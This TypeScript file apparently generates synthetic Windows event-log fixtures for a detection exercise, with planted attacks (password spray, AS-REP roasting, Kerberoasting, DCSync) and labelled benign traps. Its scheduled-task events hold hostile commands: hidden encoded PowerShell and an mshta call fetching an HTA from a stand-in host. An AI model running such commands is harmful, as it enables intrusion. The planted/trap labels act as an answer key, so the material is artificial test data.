// Round 7 host events, as the exports a responder gets (EvtxECmd CSV, Get-WinEvent | Export-Csv,
// wevtutil XML): an NTLM spray whose 4625s carry no address, AS-REP roasting, DCSync and a
// scheduled task that runs encoded PowerShell, each beside the ordinary events that look like it.
import { evtxRow, EVTX_HEADER } from '../planted6host/windows';

const q = (s: string): string => `"${s.replace(/"/g, '""')}"`;
const DOM = 'S-1-5-21-3623811015-3361044348-30300820';
const SEC = 'Microsoft-Windows-Security-Auditing';
const DC = 'DC01.corp.example.com';

const hms = (sec: number): string => new Date(Date.UTC(2026, 2, 10) + sec * 1000).toISOString().slice(11, 19);

/** A 4625 failed logon on `computer` with no address (IpAddress "-"): NTLM from a workstation, or RDP with NLA off. */
const failed = (n: number, sec: number, computer: string, user: string, workstation: string, logonType = '3'): string =>
  evtxRow({ n, t: hms(sec), id: 4625, provider: SEC, channel: 'Security', computer, map: 'An account failed to log on', remote: `${workstation} (-)`, pd: [`Target: CORP\\${user}`, `LogonType ${logonType}`, `Workstation: ${workstation}`, 'Status: 0xC000006D', 'SubStatus: 0xC000006A'], data: { SubjectUserSid: 'S-1-0-0', SubjectUserName: '-', TargetUserName: user, TargetDomainName: 'CORP', Status: '0xc000006d', SubStatus: '0xc000006a', LogonType: logonType, LogonProcessName: 'NtLmSsp ', AuthenticationPackageName: 'NTLM', WorkstationName: workstation, IpAddress: '-', IpPort: '-' } });

const SPRAYED = ['a.baker', 'b.chen', 'c.diaz', 'd.evans', 'e.fischer', 'f.garcia', 'g.hughes', 'h.ito', 'i.jones', 'j.kumar', 'k.lopez', 'l.meyer', 'm.novak', 'n.olsen'];

/** FS01's Security log (EvtxECmd): one password tried against 14 accounts from the workstation KALI, no address logged; beside it staff mistyping their own passwords from their laptops. */
export function sprayNoAddress(): string[] {
  const rows = [EVTX_HEADER];
  let n = 5000;
  // trap: three people each mistype once or twice at the start of the day, from their own laptops
  rows.push(failed(n++, 8 * 3600 + 10, 'FS01.corp.example.com', 'p.owens', 'LT-0231'));
  rows.push(failed(n++, 8 * 3600 + 25, 'FS01.corp.example.com', 'p.owens', 'LT-0231'));
  rows.push(failed(n++, 8 * 3600 + 300, 'FS01.corp.example.com', 'r.quinn', 'LT-0187'));
  rows.push(failed(n++, 9 * 3600 + 40, 'FS01.corp.example.com', 's.reid', 'LT-0102'));
  // trap: the Citrix server's users log on through it all day (NTLM, no address): many succeed, a dozen mistype once
  for (let i = 0; i < 150; i++) {
    const u = `user${String(i % 40).padStart(2, '0')}`;
    rows.push(
      evtxRow({ n: n++, t: hms(7 * 3600 + i * 190), id: 4624, provider: SEC, channel: 'Security', computer: 'FS01.corp.example.com', map: 'An account was successfully logged on', remote: 'CTX01 (-)', pd: [`Target: CORP\\${u}`, 'LogonType 3'], data: { SubjectUserSid: 'S-1-0-0', SubjectUserName: '-', TargetUserName: u, TargetDomainName: 'CORP', LogonType: '3', LogonProcessName: 'NtLmSsp ', AuthenticationPackageName: 'NTLM', WorkstationName: 'CTX01', IpAddress: '-', IpPort: '-' } }),
    );
    if (i % 12 === 5) rows.push(failed(n++, 7 * 3600 + i * 190 - 30, 'FS01.corp.example.com', u, 'CTX01'));
  }
  // planted: KALI sprays one password over 14 accounts within four minutes
  SPRAYED.forEach((u, i) => rows.push(failed(n++, 2 * 3600 + 15 * 60 + i * 17, 'FS01.corp.example.com', u, 'KALI')));
  return rows;
}

/** The same spray in Get-WinEvent | Export-Csv (the message text says "Source Network Address: -"), here an RDP spray (logon type 10, NLA off) from WIN-8J3KQ2. */
export function sprayNoAddressExport(): string[] {
  const msg = (user: string, ws: string): string =>
    `An account failed to log on.\n\nSubject:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\t-\n\tAccount Domain:\t\t-\n\tLogon ID:\t\t0x0\n\nLogon Type:\t\t\t10\n\nAccount For Which Logon Failed:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\t${user}\n\tAccount Domain:\t\tCORP\n\nFailure Information:\n\tFailure Reason:\t\tUnknown user name or bad password.\n\tStatus:\t\t\t0xC000006D\n\tSub Status:\t\t0xC000006A\n\nProcess Information:\n\tCaller Process ID:\t0x0\n\tCaller Process Name:\t-\n\nNetwork Information:\n\tWorkstation Name:\t${ws}\n\tSource Network Address:\t-\n\tSource Port:\t\t-\n\nDetailed Authentication Information:\n\tLogon Process:\t\tNtLmSsp \n\tAuthentication Package:\tNTLM\n\tTransited Services:\t-\n\tPackage Name (NTLM only):\t-\n\tKey Length:\t\t0`.replace(/\n/g, '\r\n');
  const row = (user: string, ws: string, rec: number, time: string): string =>
    [q(msg(user, ws)), '"4625"', '"0"', '""', '"0"', '"12544"', '"0"', '"-9218868437227405312"', q(String(rec)), q(SEC), '"54849625-5478-4994-a5ba-3e3b0328c30d"', '"Security"', '"788"', '"2140"', '"RDS01.corp.example.com"', '""', q(time), '"Security"', '""', '"System.Diagnostics.Eventing.Reader.EventBookmark"', '"Information"', '"Info"', '"Logon"', '"{Audit Failure}"', '"System.Collections.Generic.List`1[System.Diagnostics.Eventing.Reader.EventProperty]"'].join(',');
  const rows = ['#TYPE System.Diagnostics.Eventing.Reader.EventLogRecord', '"Message","Id","Version","Qualifiers","Level","Task","Opcode","Keywords","RecordId","ProviderName","ProviderId","LogName","ProcessId","ThreadId","MachineName","UserId","TimeCreated","ContainerLog","MatchedQueryIds","Bookmark","LevelDisplayName","OpcodeDisplayName","TaskDisplayName","KeywordsDisplayNames","Properties"'];
  // trap: one user mistyping twice from the thin client at reception
  rows.push(row('t.santos', 'TC-RECEPTION', 70001, '3/10/2026 8:02:10 AM'), row('t.santos', 'TC-RECEPTION', 70002, '3/10/2026 8:02:31 AM'));
  SPRAYED.slice(0, 10).forEach((u, i) => rows.push(row(u, 'WIN-8J3KQ2', 70100 + i, `3/10/2026 3:1${i}:0${i % 6} AM`)));
  return rows;
}

/** A 4768 (Kerberos TGT requested) on DC01, EvtxECmd. preAuth 0: the account does not require pre-authentication. */
const tgt = (n: number, sec: number, user: string, ip: string, preAuth: string, enc: string): string =>
  evtxRow({ n, t: hms(sec), id: 4768, provider: SEC, channel: 'Security', computer: DC, map: 'A Kerberos authentication ticket (TGT) was requested', pd: [`Target: CORP.EXAMPLE.COM\\${user}`, 'Service: krbtgt', `TicketEncryptionType: ${enc}`, `PreAuthType: ${preAuth}`, 'Status: 0x0'], data: { TargetUserName: user, TargetDomainName: 'CORP.EXAMPLE.COM', TargetSid: `${DOM}-${2000 + user.length}`, ServiceName: 'krbtgt', ServiceSid: `${DOM}-502`, TicketOptions: '0x40810010', Status: '0x0', TicketEncryptionType: enc, PreAuthType: preAuth, IpAddress: `::ffff:${ip}`, IpPort: String(50000 + (n % 9000)), CertIssuerName: '', CertSerialNumber: '', CertThumbprint: '' } });

/** DC01's Kerberos TGT requests: 10.0.5.66 asks TGTs without pre-authentication, in RC4, for four accounts within a minute; beside it ordinary AES logons and an old scanner appliance's one account without pre-authentication, all day. */
export function asRepRoast(): string[] {
  const rows = [EVTX_HEADER];
  let n = 9000;
  // trap: ordinary logons, pre-authenticated (type 2, encrypted timestamp), AES
  for (let i = 0; i < 30; i++) rows.push(tgt(n++, 7 * 3600 + i * 97, SPRAYED[i % SPRAYED.length]!, `10.0.2.${20 + (i % 9)}`, '2', '0x12'));
  // trap: the old scan-to-folder copier's account has pre-authentication off and asks for its TGT in RC4 every two hours from its own address
  for (let h = 0; h < 12; h++) rows.push(tgt(n++, h * 7200 + 300, 'svc_copier', '10.0.9.40', '0', '0x17'));
  // planted: Rubeus asreproast / GetNPUsers from 10.0.5.66
  ['svc_copier', 'old.sqlreport', 'helpdesk-test', 'j.wilson'].forEach((u, i) => rows.push(tgt(n++, 2 * 3600 + 33 * 60 + i * 3, u, '10.0.5.66', '0', '0x17')));
  return rows;
}

const REPL = { changes: '1131f6aa-9c07-11d1-f79f-00c04fc2dcd2', all: '1131f6ad-9c07-11d1-f79f-00c04fc2dcd2', filtered: '89e95b76-444d-4c62-991a-0facbeda640c' };
const DOMAIN_DNS = '19195a5b-6da0-11d0-afd3-00c04fd930c9';

/** A 4662 (an operation was performed on an object) on the domain object with a replication right. */
const dsAccess = (n: number, sec: number, user: string, domain: string, guid: string): string =>
  evtxRow({ n, t: hms(sec), id: 4662, provider: SEC, channel: 'Security', computer: DC, map: 'An operation was performed on an object', user: `${domain}\\${user}`, pd: [`SubjectUserName: ${domain}\\${user}`, 'ObjectServer: DS', `ObjectType: %{${DOMAIN_DNS}}`, 'OperationType: Object Access', 'AccessMask: 0x100'], data: { SubjectUserSid: `${DOM}-1105`, SubjectUserName: user, SubjectDomainName: domain, SubjectLogonId: '0x3e7a21', ObjectServer: 'DS', ObjectType: `%{${DOMAIN_DNS}}`, ObjectName: '%{4c1a3f0e-6f3d-4d2a-9d7e-1b2c3d4e5f60}', OperationType: 'Object Access', HandleId: '0x0', AccessList: '%%7688\n\t\t\t\t', AccessMask: '0x100', Properties: `%%7688\n\t\t{${guid}}\n\t{${DOMAIN_DNS}}\n`, AdditionalInfo: '-', AdditionalInfo2: '' } });

/** DC01's directory-service access events: DC02$ replicating (all day), Azure AD Connect's MSOL_ account syncing hashes, an ordinary read, then jdoe asking for the replication rights (DCSync). */
export function dcSync(): string[] {
  const rows = [EVTX_HEADER];
  let n = 12000;
  for (let h = 0; h < 8; h++) for (const g of [REPL.changes, REPL.all, REPL.filtered]) rows.push(dsAccess(n++, h * 3600 + 60, 'DC02$', 'CORP', g));
  rows.push(dsAccess(n++, 3 * 3600, 'MSOL_8a1f2c3d4e5f', 'CORP', REPL.all), dsAccess(n++, 3 * 3600 + 1, 'MSOL_8a1f2c3d4e5f', 'CORP', REPL.changes));
  // trap: an ordinary property read on the domain object (no replication right)
  rows.push(dsAccess(n++, 4 * 3600, 'r.patel', 'CORP', 'bf967a86-0de6-11d0-a285-00aa003049e2'));
  // planted: mimikatz lsadump::dcsync as jdoe
  rows.push(dsAccess(n++, 2 * 3600 + 47 * 60, 'jdoe', 'CORP', REPL.changes), dsAccess(n++, 2 * 3600 + 47 * 60, 'jdoe', 'CORP', REPL.all), dsAccess(n++, 2 * 3600 + 47 * 60 + 1, 'jdoe', 'CORP', REPL.filtered));
  return rows;
}

/** The Task Scheduler XML a 4698 holds in TaskContent. */
const taskXml = (command: string, args: string, author: string): string =>
  `<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <RegistrationInfo>\r\n    <Author>${author}</Author>\r\n  </RegistrationInfo>\r\n  <Triggers>\r\n    <LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>\r\n  </Triggers>\r\n  <Principals>\r\n    <Principal id="Author">\r\n      <UserId>S-1-5-18</UserId>\r\n      <RunLevel>HighestAvailable</RunLevel>\r\n    </Principal>\r\n  </Principals>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>${command}</Command>${args ? `\r\n      <Arguments>${args}</Arguments>` : ''}\r\n    </Exec>\r\n  </Actions>\r\n</Task>`;

const taskCreated = (n: number, sec: number, computer: string, user: string, name: string, command: string, args: string): string =>
  evtxRow({ n, t: hms(sec), id: 4698, provider: SEC, channel: 'Security', computer, map: 'A scheduled task was created', user: `CORP\\${user}`, pd: [`TaskName: ${name}`], data: { SubjectUserSid: `${DOM}-1105`, SubjectUserName: user, SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7', TaskName: name, TaskContent: taskXml(command, args, `CORP\\${user}`) } });

/** WS11 and APP02's Security logs (EvtxECmd): tasks an intruder registers, beside the tasks software installs. */
export function scheduledTasks(): string[] {
  return [
    EVTX_HEADER,
    // trap: OneDrive's per-user updater (AppData\Local\Microsoft), Google Update, a backup agent's task
    taskCreated(15001, 8 * 3600, 'WS11.corp.example.com', 'k.lopez', '\\OneDrive Standalone Update Task-S-1-5-21-3623811015-3361044348-30300820-1644', '%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe', '/reporting'),
    taskCreated(15002, 8 * 3600 + 60, 'WS11.corp.example.com', 'SYSTEM', '\\GoogleUpdateTaskMachineUA', 'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe', '/ua /installsource scheduler'),
    taskCreated(15003, 9 * 3600, 'APP02.corp.example.com', 'adm-mark', '\\Veeam\\NightlyJob', 'C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Manager.exe', '/backup'),
    // planted: a task that runs hidden encoded PowerShell at every logon, named like a Windows one
    taskCreated(15101, 2 * 3600 + 52 * 60, 'APP02.corp.example.com', 'jdoe', '\\Microsoft\\Windows\\UpdateOrchestrator\\USO_Refresh', 'powershell.exe', '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'),
    // planted: a dropped binary in C:\Users\Public run as a task on WS11
    taskCreated(15102, 2 * 3600 + 58 * 60, 'WS11.corp.example.com', 'jdoe', '\\SystemHealthCheck', 'C:\\Users\\Public\\Music\\svchost.exe', ''),
  ];
}

const EXPORT_HEADER = ['#TYPE System.Diagnostics.Eventing.Reader.EventLogRecord', '"Message","Id","Version","Qualifiers","Level","Task","Opcode","Keywords","RecordId","ProviderName","ProviderId","LogName","ProcessId","ThreadId","MachineName","UserId","TimeCreated","ContainerLog","MatchedQueryIds","Bookmark","LevelDisplayName","OpcodeDisplayName","TaskDisplayName","KeywordsDisplayNames","Properties"'];

/** One Get-WinEvent | Export-Csv record of DC02's Security log. */
const exportRow = (message: string, id: number, record: number, time: string, task: string): string =>
  [q(message.replace(/\n/g, '\r\n')), q(String(id)), '"0"', '""', '"0"', '"14080"', '"0"', '"-9214364837600034816"', q(String(record)), q(SEC), '"54849625-5478-4994-a5ba-3e3b0328c30d"', '"Security"', '"788"', '"2140"', '"DC02.corp.example.com"', '""', q(time), '"Security"', '""', '"System.Diagnostics.Eventing.Reader.EventBookmark"', '"Information"', '"Info"', q(task), '"{Audit Success}"', '"System.Collections.Generic.List`1[System.Diagnostics.Eventing.Reader.EventProperty]"'].join(',');

const dsMessage = (user: string, guid: string): string =>
  `An operation was performed on an object.\n\nSubject :\n\tSecurity ID:\t\tCORP\\${user}\n\tAccount Name:\t\t${user}\n\tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x3E7A21\n\nObject:\n\tObject Server:\t\tDS\n\tObject Type:\t\t%{${DOMAIN_DNS}}\n\tObject Name:\t\t%{4c1a3f0e-6f3d-4d2a-9d7e-1b2c3d4e5f60}\n\tHandle ID:\t\t0x0\n\nOperation:\n\tOperation Type:\t\tObject Access\n\tAccesses:\t\tControl Access\n\t\t\t\t\n\tAccess Mask:\t\t0x100\n\tProperties:\t\tControl Access\n\t{${guid}}\n\t{${DOMAIN_DNS}}\n\n\nAdditional Information:\n\tParameter 1:\t\t-\n\tParameter 2:\t\t`;

/** DC02's Security log (Export-Csv): DC01$ replicating, then svc_sql (a service account whose password was cracked) running DCSync. */
export function dcSyncExport(): string[] {
  return [
    ...EXPORT_HEADER,
    exportRow(dsMessage('DC01$', REPL.changes), 4662, 51001, '3/10/2026 1:00:02 AM', 'Directory Service Access'),
    exportRow(dsMessage('DC01$', REPL.all), 4662, 51002, '3/10/2026 1:00:02 AM', 'Directory Service Access'),
    exportRow(dsMessage('svc_sql', REPL.all), 4662, 51003, '3/10/2026 3:12:40 AM', 'Directory Service Access'),
    exportRow(dsMessage('svc_sql', REPL.filtered), 4662, 51004, '3/10/2026 3:12:40 AM', 'Directory Service Access'),
  ];
}

const xmlEscape = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** One wevtutil XML event (one line) on `computer`. */
const xmlEvent = (id: number, rec: number, time: string, computer: string, keywords: string, data: Record<string, string>): string =>
  `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="${SEC}" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"/><EventID>${id}</EventID><Version>0</Version><Level>0</Level><Task>0</Task><Opcode>0</Opcode><Keywords>${keywords}</Keywords><TimeCreated SystemTime="2026-03-10T${time}.1234567Z"/><EventRecordID>${rec}</EventRecordID><Correlation/><Execution ProcessID="788" ThreadID="2140"/><Channel>Security</Channel><Computer>${computer}</Computer><Security/></System><EventData>${Object.entries(data).map(([k, v]) => `<Data Name="${k}">${xmlEscape(v)}</Data>`).join('')}</EventData></Event>`;

/** DC01's NTLM validations (4776) saved by wevtutil: PARROT sprays 12 accounts with no address in the event, beside a user mistyping twice and ordinary successes; and WS12's scheduled tasks (4698). */
export function wevtutilXml(): string[] {
  const FAIL = '0x8010000000000000';
  const OK = '0x8020000000000000';
  const v = (rec: number, sec: number, user: string, ws: string, ok: boolean): string =>
    xmlEvent(4776, rec, hms(sec), DC, ok ? OK : FAIL, { PackageName: 'MICROSOFT_AUTHENTICATION_PACKAGE_V1_0', TargetUserName: user, Workstation: ws, Status: ok ? '0x0' : '0xc000006a' });
  const rows: string[] = [];
  let rec = 88000;
  for (let i = 0; i < 20; i++) rows.push(v(rec++, 8 * 3600 + i * 61, SPRAYED[i % SPRAYED.length]!, `LT-0${200 + (i % 7)}`, true));
  rows.push(v(rec++, 8 * 3600 + 700, 'p.owens', 'LT-0231', false), v(rec++, 8 * 3600 + 720, 'p.owens', 'LT-0231', false), v(rec++, 8 * 3600 + 740, 'p.owens', 'LT-0231', true));
  SPRAYED.slice(2, 14).forEach((u, i) => rows.push(v(rec++, 4 * 3600 + i * 9, u, 'PARROT', false)));
  const task = (id: number, sec: number, user: string, name: string, command: string, args: string): string =>
    xmlEvent(4698, id, hms(sec), 'WS12.corp.example.com', OK, { SubjectUserSid: `${DOM}-1105`, SubjectUserName: user, SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7', TaskName: name, TaskContent: taskXml(command, args, `CORP\\${user}`) });
  rows.push(task(rec++, 9 * 3600, 'm.novak', '\\Zoom Updater', '%LOCALAPPDATA%\\Programs\\Zoom\\bin\\Zoom.exe', '--update'));
  rows.push(task(rec++, 4 * 3600 + 300, 'svc_sql', '\\WindowsDefenderSync', 'C:\\Windows\\System32\\mshta.exe', 'http://203.0.113.77/s.hta'));
  return rows;
}

/** A 4769 (Kerberos service ticket requested) on DC01, EvtxECmd. */
const tgs = (n: number, sec: number, user: string, ip: string, service: string, enc: string): string =>
  evtxRow({ n, t: hms(sec), id: 4769, provider: SEC, channel: 'Security', computer: DC, map: 'A Kerberos service ticket was requested', remote: `(::ffff:${ip})`, user: `${user}@CORP.EXAMPLE.COM`, pd: [`Service: ${service}`, `TicketEncryptionType: ${enc}`, 'Status: 0x0', 'TicketOptions: 0x40810000'], data: { TargetUserName: `${user}@CORP.EXAMPLE.COM`, TargetDomainName: 'CORP.EXAMPLE.COM', ServiceName: service, ServiceSid: `${DOM}-${3000 + service.length}`, TicketOptions: '0x40810000', TicketEncryptionType: enc, IpAddress: `::ffff:${ip}`, IpPort: String(50000 + (n % 9000)), Status: '0x0', LogonGuid: '{6d2f1c3e-0000-0000-0000-000000000000}', TransmittedServices: '-' } });

const SERVICE_ACCOUNTS = ['svc_sql', 'svc_iis_hr', 'svc_backup', 'svc_sharepoint', 'svc_crm', 'svc_reporting', 'svc_exchange_arch', 'svc_jenkins', 'svc_tableau', 'svc_sap', 'svc_bamboo', 'svc_confluence', 'svc_jira', 'svc_splunk', 'svc_nessus', 'svc_adfs', 'svc_print', 'svc_wsus'];

/** DC01's service-ticket requests: 10.0.5.80 asks for AES tickets for 18 service accounts in a minute (Rubeus kerberoast /aes); workstations ask for their file servers and the one SQL service, in AES, all day. */
export function aesRoast(): string[] {
  const rows = [EVTX_HEADER];
  let n = 20000;
  // trap: ordinary clients: file servers and domain controllers (computer accounts), krbtgt renewals, the SQL service
  for (let i = 0; i < 60; i++) {
    const ip = `10.0.2.${20 + (i % 9)}`;
    const u = SPRAYED[i % SPRAYED.length]!;
    rows.push(tgs(n++, 7 * 3600 + i * 53, u, ip, ['FS01$', 'DC01$', 'krbtgt', 'svc_sql', 'APP02$'][i % 5]!, '0x12'));
  }
  // trap: the reporting server talks to a handful of service accounts every few minutes
  for (let i = 0; i < 40; i++) rows.push(tgs(n++, 8 * 3600 + i * 170, 'svc_reporting', '10.0.3.15', SERVICE_ACCOUNTS[i % 5]!, '0x12'));
  // planted: a Kerberoasting tool asking for AES tickets for every service account at once
  SERVICE_ACCOUNTS.forEach((s, i) => rows.push(tgs(n++, 2 * 3600 + 40 * 60 + i * 3, 'j.wilson', '10.0.5.80', s, '0x12')));
  return rows;
}

/** RDS02's and DC01's events shipped by Winlogbeat (ECS JSON lines): an NTLM spray from the workstation BLACKARCH with IpAddress "-", and AS-REP roasting from 10.0.7.9. */
export function winlogbeat(): string[] {
  const ev = (sec: number, code: number, computer: string, data: Record<string, string>, outcome: string, message: string): string =>
    JSON.stringify({ '@timestamp': `2026-03-10T${hms(sec)}.000Z`, event: { code: String(code), provider: SEC, kind: 'event', outcome, action: code === 4625 ? 'logon-failed' : 'kerberos-authentication-ticket-requested' }, host: { name: computer.split('.')[0]!.toLowerCase() }, winlog: { channel: 'Security', event_id: String(code), computer_name: computer, provider_name: SEC, event_data: data, keywords: [outcome === 'failure' ? 'Audit Failure' : 'Audit Success'] }, message });
  const rows: string[] = [];
  // trap: one user mistyping twice from their laptop
  rows.push(ev(8 * 3600, 4625, 'RDS02.corp.example.com', { TargetUserName: 'v.costa', TargetDomainName: 'CORP', LogonType: '3', WorkstationName: 'LT-0311', IpAddress: '-', IpPort: '-', Status: '0xc000006d', SubStatus: '0xc000006a', AuthenticationPackageName: 'NTLM' }, 'failure', 'An account failed to log on.'));
  rows.push(ev(8 * 3600 + 20, 4625, 'RDS02.corp.example.com', { TargetUserName: 'v.costa', TargetDomainName: 'CORP', LogonType: '3', WorkstationName: 'LT-0311', IpAddress: '-', IpPort: '-', Status: '0xc000006d', SubStatus: '0xc000006a', AuthenticationPackageName: 'NTLM' }, 'failure', 'An account failed to log on.'));
  SPRAYED.slice(0, 12).forEach((u, i) => rows.push(ev(5 * 3600 + i * 11, 4625, 'RDS02.corp.example.com', { TargetUserName: u, TargetDomainName: 'CORP', LogonType: '3', WorkstationName: 'BLACKARCH', IpAddress: '-', IpPort: '-', Status: '0xc000006d', SubStatus: '0xc000006a', AuthenticationPackageName: 'NTLM' }, 'failure', 'An account failed to log on.')));
  ['svc_copier', 'old.sqlreport', 'svc_legacyftp'].forEach((u, i) => rows.push(ev(5 * 3600 + 600 + i, 4768, DC, { TargetUserName: u, TargetDomainName: 'CORP.EXAMPLE.COM', ServiceName: 'krbtgt', TicketOptions: '0x40800010', Status: '0x0', TicketEncryptionType: '0x17', PreAuthType: '0', IpAddress: '::ffff:10.0.7.9', IpPort: '49822' }, 'success', 'A Kerberos authentication ticket (TGT) was requested.')));
  return rows;
}
